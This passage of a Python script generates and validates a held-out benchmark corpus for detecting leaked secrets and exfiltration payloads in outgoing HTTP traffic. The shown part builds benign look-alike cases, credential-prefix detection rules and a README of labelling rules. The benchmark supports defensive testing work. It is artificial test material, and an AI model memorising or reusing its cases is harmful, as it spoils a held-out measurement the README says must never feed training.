             'secret_key = settings.SECRET_KEY\napi_key = keyring.get_password("svc", user)\n']
    s = ch(snips)
    k = ri(0, 2)
    if k == 0:
        return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'write_file', 'arguments': {'path': ch(['main.py', 'app.js', 'main.go', 'db.tf']), 'content': s}}})
    if k == 1:
        return njson({'model': ch(ANT_MODELS), 'max_tokens': 1024, 'messages': [{'role': 'user', 'content': 'Review this code:\n```\n%s```' % s}]})
    return {'where': 'body', 'content_type': 'text/x-diff', 'text': '--- a/app\n+++ b/app\n@@ -1,2 +1,3 @@\n' + ''.join('+' + l + '\n' for l in s.splitlines())}


def luhn_bad(n):
    while True:
        d = ch('3456') + rs(DIG, n - 1)
        if not luhn_ok(d):
            return d


def n_luhnbad():
    d = luhn_bad(ch([16, 16, 15, 19]))
    k = ri(0, 3)
    if k == 0:
        return njson({'shipment': {'tracking_number': d, 'carrier': ch(['UPS', 'DHL', 'FedEx'])}})
    if k == 1:
        return {'where': 'body', 'content_type': 'text/csv', 'text': 'reference,amount\n%s,%d.00\n%s,%d.50\n' % (d, ri(1, 999), luhn_bad(16), ri(1, 999))}
    if k == 2:
        return njson({'card_number': fmt_card(d, ' '), 'note': 'failed validation'})
    return nurl('https://%s/track?ref=%s' % (host(), d))


def phone():
    return ch(['+1 415-555-%04d' % ri(100, 199), '+44 20 7946 %04d' % ri(0, 999), '+49 30 %d' % ri(1000000, 9999999),
               '+1%d555%04d' % (ri(200, 989), ri(0, 9999)), '+86 138 %04d %04d' % (ri(0, 9999), ri(0, 9999)), '+33 1 %02d %02d %02d %02d' % (ri(10, 99), ri(10, 99), ri(10, 99), ri(10, 99))])


def n_phone():
    k = ri(0, 3)
    if k == 0:
        return njson({'contact': {'name': ch(PEOPLE).title(), 'phone': phone(), 'email': email()}})
    if k == 1:
        return {'where': 'body', 'content_type': 'text/html', 'text': '<p>Call us: <a href="tel:%s">%s</a></p>' % (phone().replace(' ', '').replace('-', ''), phone())}
    if k == 2:
        return nurl('https://%s/v1/lookup?number=%s' % (host(), quote(phone(), safe='')))
    return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': 'name=%s&phone=%s&callback=yes' % (ch(PEOPLE), quote_plus(phone()))}


def n_isbn():
    b = isbn13_make()
    h = '%s-%s-%s-%s-%s' % (b[:3], b[3], b[4:7], b[7:12], b[12])
    k = ri(0, 2)
    if k == 0:
        return nurl('https://openlibrary.org/isbn/%s.json' % b)
    if k == 1:
        return njson({'title': '%s %s' % (ch(WORDS).title(), ch(['Patterns', 'Handbook', 'in Practice'])), 'isbn_13': h, 'pages': ri(100, 900)})
    return {'where': 'body', 'content_type': 'text/csv', 'text': 'isbn,title,qty\n%s,%s,%d\n' % (b, ch(WORDS), ri(1, 20))}


def n_order():
    o = ch(['ORD-2024-%07d' % ri(0, 9999999), '%03d-%07d-%07d' % (ri(100, 999), ri(0, 9999999), ri(0, 9999999)), 'INV-%06d' % ri(0, 999999),
            'PO %d' % ri(4500000000, 4599999999), '#%d' % ri(100000, 999999)])
    k = ri(0, 2)
    if k == 0:
        return njson({'order_number': o, 'status': ch(['shipped', 'processing']), 'total': '%d.%02d' % (ri(5, 900), ri(0, 99))})
    if k == 1:
        return nurl('https://%s/orders/%s/invoice.pdf' % (host(), quote(o, safe='')))
    return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': 'Draft a reply: customer asks where order %s is.' % o}]})


def n_timestamp():
    ms = ri(1690000000000, 1730000000000)
    k = ri(0, 3)
    if k == 0:
        return {'where': 'body', 'content_type': 'text/plain', 'text': '%d %s request_id=%d took=%dms\n' % (ms, ch(LEVELS).upper(), ri(1, 9999), ri(1, 500))}
    if k == 1:
        return njson({'created_at': iso_ts(), 'ts': ms, 'updated': ms // 1000})
    if k == 2:
        s = ri(1690000000, 1730000000)
        return nurl('https://%s/v1/events?since=%d&until=%d' % (host(), s, s + 86400))
    return nhdr(ch(['X-Timestamp', 'X-Request-Start']), 't=%d' % ms)


def n_version():
    k = ri(0, 3)
    if k == 0:
        return nhdr('User-Agent', ch(['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36' % (ri(110, 128), ri(1000, 6999), ri(10, 200)),
                                      'python-httpx/0.%d.%d' % (ri(20, 28), ri(0, 9)), 'claude-code/%d.%d.%d' % (ri(0, 2), ri(0, 99), ri(0, 99))]))
    if k == 1:
        return njson({'name': repo(), 'version': '%d.%d.%d' % (ri(0, 9), ri(0, 30), ri(0, 30)), 'dependencies': {'react': '^18.%d.0' % ri(0, 3), 'zod': '~3.%d.%d' % (ri(20, 23), ri(0, 9))}})
    if k == 2:
        return nurl('https://registry.npmjs.org/%s/%d.%d.%d' % (ch(['react', 'express', 'lodash']), ri(1, 18), ri(0, 9), ri(0, 9)))
    return nbody('APP_VERSION', '%d.%d.%d+build.%d.%s' % (ri(1, 9), ri(0, 20), ri(0, 20), ri(1000, 9999), rs(HEXC, 7)))


def mac():
    return ':'.join('%02x' % ri(0, 255) for _ in range(6))


def n_macip():
    k = ri(0, 2)
    if k == 0:
        return {'where': 'body', 'content_type': 'text/plain', 'text': '%s dhcpd: DHCPACK on 10.%d.%d.%d to %s (%s-%d) via eth0\n' % (iso_ts(), ri(0, 255), ri(0, 255), ri(2, 254), mac(), ch(PEOPLE), ri(1, 99))}
    if k == 1:
        return njson({'hosts': [{'hostname': '%s-%02d' % (ch(WORDS), ri(1, 40)), 'mac': mac(), 'ipv4': '192.168.%d.%d' % (ri(0, 9), ri(2, 254)), 'ipv6': '2001:db8:%x::%x' % (ri(0, 65535), ri(1, 65535))}]})
    return nurl('https://%s/api/devices?mac=%s&ip=172.16.%d.%d' % (host(), quote(mac(), safe=''), ri(0, 31), ri(2, 254)))


def n_cloudhost():
    k = ri(0, 6)
    r = ch(['us-east-1', 'eu-west-1', 'ap-southeast-2'])
    if k == 0:
        return nhost('ec2-%d-%d-%d-%d.%s.compute.amazonaws.com' % (ri(3, 54), ri(0, 255), ri(0, 255), ri(0, 255), r))
    if k == 1:
        return nhost('%s-%s.s3.%s.amazonaws.com' % (ch(ORGS), ch(WORDS), r))
    if k == 2:
        return nhost('d%s.cloudfront.net' % rs(LOW + DIG, 13))
    if k == 3:
        return nhost('%s%s.blob.core.windows.net' % (ch(ORGS).replace('-', ''), ch(['prod', 'logs', 'data'])))
    if k == 4:
        return nhost('%s-%s.%s.rds.amazonaws.com' % (ch(WORDS), ch(['db', 'pg']), 'cluster-' + rs(LOW + DIG, 12) + '.' + r))
    if k == 5:
        return nhost('%s-%s-%s.a.run.app' % (ch(WORDS), rs(LOW + DIG, 10), ch(['uc', 'ew', 'ue'])))
    return nhost('%s-%s.firebaseapp.com' % (ch(WORDS), ri(1000, 99999)))


def n_preview():
    k = ri(0, 4)
    if k == 0:
        return nhost('%s-git-%s-%s.vercel.app' % (repo(), ch(['feature-login', 'fix-nav', 'main', 'dependabot-npm']), ch(ORGS)))
    if k == 1:
        return nhost('%s-%s-%s.vercel.app' % (repo(), rs(LOW + DIG, 9), ch(ORGS)))
    if k == 2:
        return nhost('deploy-preview-%d--%s.netlify.app' % (ri(1, 999), repo()))
    if k == 3:
        return nurl('https://%s.%s.pages.dev/' % (rs(HEXC, 8), repo()))
    return nhost('%s-pr-%d.onrender.com' % (repo(), ri(1, 500)))


def n_analytics():
    mid = 'G-' + rs(UPC + DIG, 10)
    k = ri(0, 3)
    if k == 0:
        return nurl('https://www.google-analytics.com/g/collect?v=2&tid=%s&cid=%d.%d&en=page_view&dl=%s' % (mid, ri(10 ** 8, 10 ** 9), ri(1700000000, 1730000000), quote('https://%s/pricing' % host(), safe='')))
    if k == 1:
        return nurl('https://www.googletagmanager.com/gtm.js?id=GTM-%s' % rs(UPC + DIG, 7))
    if k == 2:
        return {'where': 'body', 'content_type': 'text/html', 'text': "<script async src=\"https://www.googletagmanager.com/gtag/js?id=%s\"></script><script>gtag('config','%s');</script>" % (mid, mid)}
    return nhdr('Cookie', '_ga=GA1.1.%d.%d; _gid=GA1.1.%d.%d' % (ri(10 ** 8, 10 ** 9), ri(1700000000, 1730000000), ri(10 ** 8, 10 ** 9), ri(1700000000, 1730000000)))


def n_trace():
    k = ri(0, 4)
    if k == 0:
        return nhdr('traceparent', '00-%s-%s-01' % (rs(HEXC, 32), rs(HEXC, 16)))
    if k == 1:
        return nhdr('X-Amzn-Trace-Id', 'Root=1-%08x-%s' % (ri(1700000000, 1730000000), rs(HEXC, 24)))
    if k == 2:
        return nhdr('X-B3-TraceId', rs(HEXC, ch([16, 32])))
    if k == 3:
        return nhdr('X-Cloud-Trace-Context', '%s/%d;o=1' % (rs(HEXC, 32), ri(10 ** 15, 10 ** 16)))
    return nhdr('sentry-trace', '%s-%s-1' % (rs(HEXC, 32), rs(HEXC, 16)))


def n_etag():
    k = ri(0, 3)
    if k == 0:
        return nhdr('If-None-Match', '"%s"' % rs(HEXC, ch([32, 40])))
    if k == 1:
        return nhdr('If-None-Match', 'W/"%x-%s"' % (ri(100, 99999), rs(B64U, 27)))
    if k == 2:
        return nhdr('If-Match', '"%d"' % ri(1, 99))
    return njson({'kind': 'drive#file', 'etag': '"%s"' % rs(B64U, 16), 'name': '%s.pdf' % ch(WORDS)})


def n_api():
    k = ri(0, 5)
    if k == 0:
        return nurl('https://api.github.com/repos/%s/%s/pulls?state=open&per_page=%d&page=%d' % (org(), repo(), ch([30, 50, 100]), ri(1, 5)))
    if k == 1:
        return nurl('https://api.open-meteo.com/v1/forecast?latitude=%.2f&longitude=%.2f&hourly=temperature_2m' % (R.uniform(-60, 60), R.uniform(-150, 150)))
    if k == 2:
        return nhdr(ch(['Accept', 'Content-Type']), ch(['application/json', 'application/vnd.github+json', 'text/event-stream', 'application/x-ndjson']))
    if k == 3:
        return nhdr(ch(['anthropic-version', 'OpenAI-Beta', 'X-GitHub-Api-Version']), ch(['2023-06-01', 'assistants=v2', '2022-11-28']))
    if k == 4:
        return nurl('https://pypi.org/pypi/%s/json' % ch(['requests', 'numpy', 'pydantic', 'fastapi']))
    return nurl('https://en.wikipedia.org/w/api.php?action=query&format=json&titles=%s&prop=extracts' % ch(['Egress_filtering', 'Proxy_server', 'Transport_Layer_Security']))


def n_compressed():
    d = {'events': [{'name': ch(['page_view', 'click', 'signup']), 'ts': iso_ts(), 'path': '/%s' % ch(WORDS)} for _ in range(ri(2, 5))], 'sdk': 'web/%d.%d' % (ri(1, 5), ri(0, 9))}
    t = json.dumps(d)
    if R.random() < 0.6:
        return {'where': 'body', 'content_type': 'application/json', 'bytes': gz(t), 'ce': 'gzip'}
    return {'where': 'body', 'content_type': 'application/json', 'bytes': zlib.compress(t.encode(), 9), 'ce': 'deflate'}


def n_llm():
    q = ch(['Explain the difference between TCP and UDP.', 'Write a haiku about autumn.', 'Summarise the attached meeting notes in three bullets.',
            'What is the time complexity of heapsort?', 'Translate "good morning" into Portuguese.', 'Suggest names for a hiking club.'])
    k = ri(0, 2)
    if k == 0:
        return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'system', 'content': 'You are concise.'}, {'role': 'user', 'content': q}], 'stream': True})
    if k == 1:
        return njson({'model': ch(ANT_MODELS), 'max_tokens': 1024, 'system': 'You are a helpful assistant.', 'messages': [{'role': 'user', 'content': q}],
                      'tools': [{'name': 'get_weather', 'description': 'Get weather', 'input_schema': {'type': 'object', 'properties': {'city': {'type': 'string'}}}}]})
    return njson({'contents': [{'role': 'user', 'parts': [{'text': q}]}], 'generationConfig': {'temperature': 0.4}})


def n_mcp():
    k = ri(0, 3)
    if k == 0:
        return njson({'jsonrpc': '2.0', 'id': 0, 'method': 'initialize', 'params': {'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': ch(['claude-code', 'cursor', 'vscode']), 'version': '%d.%d.%d' % (ri(0, 3), ri(0, 40), ri(0, 9))}}})
    if k == 1:
        return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/list'})
    if k == 2:
        return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'read_file', 'arguments': {'path': 'src/%s/%s.py' % (ch(WORDS), ch(WORDS))}}})
    return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'search_issues', 'arguments': {'query': 'label:bug %s' % ch(WORDS), 'limit': 20}}})


def n_oauth():
    cc = b64ue(hashlib.sha256(rbytes(32)).digest())
    st = rs(ALNUM, ch([12, 16, 20]))
    k = ri(0, 2)
    redir = quote('https://%s/oauth/callback' % host(), safe='')
    if k == 0:
        return nurl('https://accounts.google.com/o/oauth2/v2/auth?client_id=%d-%s.apps.googleusercontent.com&redirect_uri=%s&response_type=code&scope=openid%%20email&state=%s&code_challenge=%s&code_challenge_method=S256' % (
            ri(10 ** 11, 10 ** 12), rs(LOW + DIG, 32), redir, st, cc))
    if k == 1:
        return nurl('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code&redirect_uri=%s&scope=offline_access%%20User.Read&state=%s&code_challenge=%s&code_challenge_method=S256' % (
            uuid4(), redir, st, cc))
    return nurl('https://github.com/login/oauth/authorize?client_id=Iv1.%s&redirect_uri=%s&state=%s' % (rs(HEXC, 16), redir, st))


def n_pubkey():
    k = ri(0, 3)
    if k == 0:
        return nbody(ch(['STRIPE_PUBLISHABLE_KEY', 'NEXT_PUBLIC_STRIPE_KEY']), ch(['pk_live_', 'pk_test_']) + '51' + rs(ALNUM, 97))
    if k == 1:
        return {'where': 'body', 'content_type': 'text/html', 'text': '<script src="https://js.stripe.com/v3/"></script><script>const stripe = Stripe("pk_live_%s");</script>' % rs(ALNUM, 99)}
    if k == 2:
        dom = '%s.clerk.accounts.dev$' % ch(WORDS)
        return nbody('NEXT_PUBLIC_CLERK_PUBLISHABLE_KEY', 'pk_test_' + b64ue(dom))
    return nbody('MAPBOX_PUBLIC_TOKEN', 'pk.' + b64ue(json.dumps({'u': ch(PEOPLE), 'a': rs(LOW + DIG, 25)}, separators=(',', ':'))) + '.' + rs(B64U, 22))


def n_ibanbad():
    cc = ch(sorted(IBAN_SPEC))
    v = iban_make(cc)
    k = ri(0, 2)
    if k == 0:
        bad = v[:2] + '%02d' % ((int(v[2:4]) + ri(1, 50)) % 97) + v[4:]
        if iban_ok(bad):
            bad = v[:-1] + str((int(v[-1]) + 1) % 10) if v[-1].isdigit() else v[:-2] + '00'
    elif k == 1:
        bad = v[:-ri(1, 3)]
    else:
        bad = ch(['XK', 'QQ', 'ZZ', 'UU']) + v[2:]
    m = ri(0, 2)
    if m == 0:
        return njson({'iban': bad, 'error': 'invalid IBAN checksum'})
    if m == 1:
        return {'where': 'body', 'content_type': 'text/csv', 'text': 'payee,iban\n%s,%s\n' % (ch(PEOPLE), bad)}
    return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': 'Why does my bank reject %s?' % bad}]})


def n_cryptobad():
    k = ri(0, 3)
    if k == 0:
        a = '1' + ''.join(ch(B58 + '0OIl') for _ in range(ri(25, 32)))
        if not any(c in '0OIl' for c in a):
            a = a[:5] + '0' + a[6:]
    elif k == 1:
        a = '0x' + rs(HEXC, ch([8, 12, 38]))
    elif k == 2:
        a = 'bc1q' + ''.join(ch('bio' + BECH) for _ in range(ri(20, 30)))
        if not any(c in 'bio' for c in a[4:]):
            a = a[:8] + 'b' + a[9:]
    else:
        a = 'bc1' + ch(['q', 'p']) + rs(BECH, 6)
    m = ri(0, 2)
    if m == 0:
        return njson({'address': a, 'valid': False, 'error': 'checksum mismatch'})
    if m == 1:
        return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': 'wallet=%s&note=test' % a}
    return njson({'channel': 'C0' + rs(UPC + DIG, 9), 'text': 'is %s a valid address? wallet says no' % a})


def n_prefixbad():
    p = ch(['ghp_', 'AKIA', 'xoxb-', 'sk_live_', 'glpat-', 'npm_', 'AIza', 'hf_', 'SG.', 'sk-ant-'])
    v = p + rs(ALNUM, ri(3, 8))
    k = ri(0, 2)
    if k == 0:
        return njson({'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': 'Tokens that start with %s are what kind of credential? e.g. %s' % (p, v)}]})
    if k == 1:
        return {'where': 'body', 'content_type': 'text/markdown', 'text': '| prefix | meaning |\n|---|---|\n| `%s` | %s |\n| `%s...` | truncated sample `%s` |\n' % (p, ch(['personal token', 'access key', 'bot token']), p, v)}
    return njson({'rule': {'id': 'detect-%s' % ch(WORDS), 'pattern': re.escape(p) + '[A-Za-z0-9]{36}', 'example': v}})


def n_fingerprint():
    k = ri(0, 3)
    if k == 0:
        f = ':'.join('%02X' % b for b in rbytes(32))
        return njson({'tls': {'pinned_sha256': f, 'host': host()}})
    if k == 1:
        f = ':'.join('%02x' % b for b in rbytes(16))
        return {'where': 'body', 'content_type': 'text/plain', 'text': 'The authenticity of host \'%s (10.0.%d.%d)\' can\'t be established.\nED25519 key fingerprint is MD5:%s.\n' % (host(), ri(0, 9), ri(2, 250), f)}
    if k == 2:
        return {'where': 'body', 'content_type': 'text/plain', 'text': '256 SHA256:%s %s@%s (ED25519)\n' % (b64e(rbytes(32)).rstrip('='), ch(PEOPLE), ch(['laptop', 'build']))}
    f = ':'.join('%02X' % b for b in rbytes(20))
    return njson({'certificate': {'subject': 'CN=%s' % host(), 'sha1_fingerprint': f, 'not_after': iso_ts()}})


def n_benignhost():
    return nhost(ch(['api.openai.com', 'api.anthropic.com', 'registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org', 'objects.githubusercontent.com',
                     '%s.%s.svc.cluster.local' % (ch(WORDS), ch(['default', 'prod'])), 'xn--mnchen-3ya.de', 'www.%s.%s' % (ch(ORGS), ch(TLDS)),
                     '%s-%s.%s.internal' % (ch(WORDS), ri(1, 40), ch(['eu-west-1', 'us-east-1'])), 'mail-%s.%s.com' % (ch(['eu', 'us']), ch(ORGS))]))


def n_b64content():
    text = ch(['# %s\n\nA small tool for %s and %s.\n\n## Install\n\n    pip install %s\n' % (repo(), ch(WORDS), ch(WORDS), repo()),
               'Meeting notes %s:\n- ship %s\n- fix %s\n' % (iso_ts()[:10], ch(WORDS), ch(WORDS)), 'id,%s,%s\n1,%d,%d\n2,%d,%d\n' % (ch(WORDS), ch(WORDS), ri(1, 99), ri(1, 99), ri(1, 99), ri(1, 99))])
    k = ri(0, 2)
    if k == 0:
        return njson({'message': 'docs: update %s' % ch(WORDS), 'content': b64e(text), 'branch': 'main'})
    if k == 1:
        return njson({'attachments': [{'filename': 'notes.txt', 'content': b64e(text), 'type': 'text/plain'}], 'subject': 'notes'})
    return njson({'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'upload', 'arguments': {'name': 'report.csv', 'data_base64': b64e(text)}}})


def n_config():
    n, v = ch([('LOG_LEVEL', ch(LEVELS)), ('PASSWORD_MIN_LENGTH', str(ri(8, 16))), ('TOKEN_TTL_SECONDS', str(ch([900, 3600]))),
               ('UPSTREAM_URL', 'https://' + host()), ('FEATURE_FLAGS', '%s,%s' % (ch(WORDS), ch(WORDS))), ('SESSION_COOKIE_NAME', 'sid'),
               ('MAX_UPLOAD_MB', str(ri(5, 200))), ('TZ', ch(['UTC', 'Europe/Berlin', 'America/New_York']))])
    return nbody(n, v, enc=True)


NEGATIVE = [  # category, count, fn
    ('uuid-identifier', 11, n_uuid), ('git-commit-sha', 11, n_gitsha), ('content-digest', 11, n_digest), ('hashed-asset-path', 10, n_asset),
    ('cloud-document-id', 10, n_docid), ('base64-image', 11, n_image), ('pagination-cursor', 11, n_cursor), ('sri-hash', 10, n_sri),
    ('ssh-public-key', 10, n_sshpub), ('masked-secret', 12, n_masked), ('placeholder-secret', 12, n_placeholder),
    ('prose-about-secrets', 11, n_prose), ('code-referencing-secrets', 11, n_coderef), ('luhn-invalid-number', 11, n_luhnbad),
    ('phone-number', 10, n_phone), ('isbn', 10, n_isbn), ('order-number', 10, n_order), ('timestamp', 10, n_timestamp),
    ('version-string', 10, n_version), ('mac-ip-address', 10, n_macip), ('cloud-hostname', 11, n_cloudhost),
    ('deploy-preview-hostname', 10, n_preview), ('analytics-id', 10, n_analytics), ('trace-id', 11, n_trace), ('etag', 10, n_etag),
    ('ordinary-api-request', 12, n_api), ('compressed-benign-body', 10, n_compressed), ('benign-llm-request', 11, n_llm),
    ('benign-mcp-call', 11, n_mcp), ('oauth-public-params', 10, n_oauth), ('publishable-key', 10, n_pubkey),
    ('look-alike-iban', 11, n_ibanbad), ('look-alike-crypto-address', 11, n_cryptobad), ('look-alike-vendor-prefix', 11, n_prefixbad),
    ('certificate-fingerprint', 10, n_fingerprint), ('benign-hostname', 10, n_benignhost), ('base64-benign-content', 10, n_b64content),
    ('benign-config-file', 11, n_config),
]


# ----------------------------------------------------------------- build
def case_key(c):
    return (c['where'], c['bytes'] if 'bytes' in c else c['text'].encode())


def check_value(kind, s):
    if kind is None:
        return True
    if kind == 'luhn':
        return s.isdigit() and 13 <= len(s) <= 19 and luhn_ok(s)
    if kind == 'iban':
        return iban_ok(s)
    if kind == 'btc':
        return b58check_ok(s) or segwit_ok(s)
    if kind == 'eth':
        return eth_ok(s)
    try:
        if kind == 'dns-hex':
            return len(bytes.fromhex(s)) > 0
        if kind == 'dns-b32':
            return len(base64.b32decode(s.upper() + '=' * (-len(s) % 8))) > 0
        if kind == 'dns-b64u':
            return len(base64.urlsafe_b64decode(s + '=' * (-len(s) % 4))) > 0
    except Exception:
        return False
    raise ValueError(kind)


def pos_ok(c):
    return c['secret'] in recover(c) and check_value(c.get('check'), c['secret'])


def build():
    global R
    R = random.Random(SEED)
    seen = set()
    pos, neg = [], []
    jobs = [(spec[0], spec[1], (lambda spec: lambda i: (lambda c: (c, c['secret']))(mk_vendor(spec)))(spec), None) for spec in VENDOR] + SPECIAL
    for cls, n, fn, chk in jobs:
        for i in range(n):
            for _ in range(100):
                c, s = fn(i)
                c['secret'], c['expect'] = s, cls
                if chk:
                    c['check'] = chk
                if case_key(c) not in seen:
                    break
            else:
                raise RuntimeError('cannot make unique positive ' + cls)
            if not pos_ok(c):
                raise RuntimeError('unrecoverable positive %s: %r' % (cls, c))
            seen.add(case_key(c))
            pos.append(c)
    for cat, n, fn in NEGATIVE:
        for i in range(n):
            for _ in range(300):
                c = fn()
                c['expect'] = cat
                if case_key(c) not in seen and not scan_case(c):
                    break
            else:
                raise RuntimeError('cannot make clean negative %s: %r %r' % (cat, c, scan_case(c)))
            seen.add(case_key(c))
            neg.append(c)
    R.shuffle(pos)
    R.shuffle(neg)
    return pos, neg


def to_obj(c, idx, label):
    d = {'id': 't10-%s-%04d' % ('pos' if label == 'positive' else 'neg', idx), 'label': label, 'expect': c['expect'], 'where': c['where']}
    if c['where'] == 'body' and c.get('content_type'):
        d['content_type'] = c['content_type']
    if 'bytes' in c:
        if c.get('ce'):
            d['content_encoding'] = c['ce']
        d['base64'] = b64e(c['bytes'])
    else:
        d['text'] = c['text']
    return d


def serialise(cases, label):
    return ''.join(json.dumps(to_obj(c, i + 1, label), ensure_ascii=False) + '\n' for i, c in enumerate(cases)).encode('utf-8')


def counts(cases, key):
    out = {}
    for c in cases:
        out[c[key]] = out.get(c[key], 0) + 1
    return out


def readme(pos, neg, pb, nb):
    def table(d, head):
        rows = ['| %s | count |' % head, '|---|---:|'] + ['| `%s` | %d |' % (k, d[k]) for k in sorted(d)]
        return '\n'.join(rows)
    wp, wn = counts(pos, 'where'), counts(neg, 'where')
    wh = ['| where | positives | negatives |', '|---|---:|---:|'] + ['| `%s` | %d | %d |' % (w, wp.get(w, 0), wn.get(w, 0)) for w in ('body', 'url', 'header', 'hostname')]
    cp, cn = counts(pos, 'expect'), counts(neg, 'expect')
    return ('''# split10 - held-out egress secret-detection corpus

**HELD OUT.** This corpus is for a single, final generalisation measurement of the egress secret-detection
engine. Never tune, fit, debug or write rules against it, never copy its cases into training or unit-test
material, and report results **by class / category only** (per-class recall, per-category false-positive
rate) - never quote individual cases.

## Files

| file | lines | sha256 |
|---|---:|---|
| `positives.jsonl` | %d | `%s` |
| `negatives.jsonl` | %d | `%s` |

Regenerate (deterministic, byte-identical; writes the files next to the script and then runs the checker):

    nice python3 generate.py           # regenerate + check
    nice python3 generate.py --check   # check only

Python 3 standard library only; seed `%d`; a single `random.Random(SEED)`; gzip with mtime=0.

## Line format (JSON Lines, one case per line)

- `id`: `t10-pos-NNNN` / `t10-neg-NNNN`, sequential from 0001 after shuffling within each file.
- `label`: `positive` | `negative`.
- `expect`: positive -> credential/data class; negative -> benign category (kebab-case).
- `where`: `body` | `url` | `header` | `hostname`.
- `content_type` (optional, bodies only); `content_encoding` (optional: `gzip`, or `deflate` = zlib-wrapped; only together with `base64`).
- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64).
- `header` is one ASCII `Name: value` line; `url` is an absolute http(s) ASCII URL with valid percent escapes; `hostname` is a bare LDH hostname.

## Split by `where`

%s

## Positive classes (%d cases, %d classes)

%s

## Negative categories (%d cases, %d categories)

%s

## Labelling rule (egress)

- Positive: anything that would leak a usable credential, or a sensitive financial / exfiltration payload, if
  the request were sent - including documented example keys and well-known test values (vendor example keys,
  test card numbers, example IBANs). An unmistakable vendor prefix followed by enough characters of that key's
  alphabet is positive regardless of checksum or entropy. Generic passwords / API keys are positive only where a
  field or context names them as secrets and the value looks like a real credential. Secrets may be wrapped in
  encodings (percent / double percent, form, base64 std and url-safe, base64 of gzip, hex, JSON \\u escapes, HTML
  character references, quoted-printable, gzip/deflate Content-Encoding) - the label is about the decoded content.
- Negative: realistic benign egress that superficially resembles secrets (ids, digests, hashes, cursors, public
  keys, masked values and structural placeholders, prose and code that mention secrets, look-alike numbers and
  addresses that are wrong in format, cloud / preview hostnames, publishable keys, OAuth public parameters,
  ordinary API, LLM and MCP traffic, compressed benign bodies). Ambiguous dummy values are in neither file.
- All values are synthetic (random), apart from a few documented public example values. No PEM armour, no real
  private keys, no seed phrases.

## What the checker verifies

- every line parses as JSON; only allowed keys; exactly one of `text` / `base64`; ids sequential per file;
  labels and kebab-case `expect`; `content_type` / `content_encoding` only where allowed;
- strict base64 (canonical re-encoding) and successful gzip / zlib decompression;
- headers are single ASCII `Name: value` lines, URLs absolute ASCII http(s) with valid percent escapes,
  hostnames bare LDH (label and total length limits);
- no duplicate case content within or across the two files;
- both files and this README equal, byte for byte, what the generator produces;
- every positive's secret is recovered mechanically from the stored line through its recorded decoding layers;
- checksummed positives are re-validated: Luhn (cards), ISO 13616 mod-97 with per-country length (IBAN),
  base58check / bech32 / bech32m (Bitcoin), EIP-55 with a self-implemented Keccak-256 (Ethereum, verified
  against the empty-input test vector and a published EIP-55 example), DNS-exfiltration payload decodability;
- every negative is scanned through decoding views (raw, percent, form, HTML, JSON escapes, quoted-printable,
  base64 tokens, gzip-in-base64 tokens, hex tokens) for accidental secrets: Luhn-valid 13-19 digit runs, valid
  IBANs, valid base58check / bech32 addresses, 0x+40-hex, vendor prefixes followed by key characters, JWTs,
  bearer tokens, decodable Basic credentials, URL userinfo passwords, random values under secret-named fields,
  long random URL segments, high-entropy hostname labels, PEM armour; flagged negatives were regenerated at
  build time;
- no PEM armour anywhere in either file (in any decoding view).

## Independence statement

Written from public knowledge of credential formats (vendor documentation of many services) and of data
exfiltration techniques only. No engine source, rules, tests, fixtures, other corpora or git history were read,
and no detector was run while producing it.
''' % (len(pos), hashlib.sha256(pb).hexdigest(), len(neg), hashlib.sha256(nb).hexdigest(), SEED, '\n'.join(wh),
       len(pos), len(cp), table(cp, 'class'), len(neg), len(cn), table(cn, 'category'))).encode('utf-8')


def produce():
    pos, neg = build()
    pb, nb = serialise(pos, 'positive'), serialise(neg, 'negative')
    return pos, neg, pb, nb, readme(pos, neg, pb, nb)


# ----------------------------------------------------------------- checker
ALLOWED = {'id', 'label', 'expect', 'where', 'content_type', 'content_encoding', 'text', 'base64'}
HDR_RE = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+: [\x20-\x7e]*")
URL_RE = re.compile(r"https?://[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]+")
LABEL_RE = re.compile(r'[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?')


def line_case(d):
    c = {'where': d['where']}
    if 'text' in d:
        c['text'] = d['text']
    else:
        raw = base64.b64decode(d['base64'], validate=True)
        if base64.b64encode(raw).decode() != d['base64']:
            raise ValueError('non-canonical base64')
        c['bytes'] = raw
        if 'content_encoding' in d:
            c['ce'] = d['content_encoding']
    return c


def check():
    errs = []

    def err(m):
        errs.append(m)
    if keccak256(b'').hex() != 'c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470':
        err('keccak test vector')
    if not eth_ok('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed') or eth_ok('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD'):
        err('eip55 example')
    pos, neg, pb, nb, rb = produce()
    for path, want in ((POS_PATH, pb), (NEG_PATH, nb), (README_PATH, rb)):
        try:
            have = open(path, 'rb').read()
        except OSError:
            have = None
        if have != want:
            err('%s differs from generator output' % os.path.basename(path))
    seen = {}
    for path, label, pre, metas in ((POS_PATH, 'positive', 't10-pos-', pos), (NEG_PATH, 'negative', 't10-neg-', neg)):
        try:
            lines = open(path, 'rb').read().decode('utf-8').split('\n')
        except OSError:
            err('missing ' + path)
            continue
        if lines[-1] != '':
            err('no trailing newline')
        lines = lines[:-1]
        if len(lines) != len(metas):
            err('line count mismatch %s' % path)
        for i, ln in enumerate(lines):
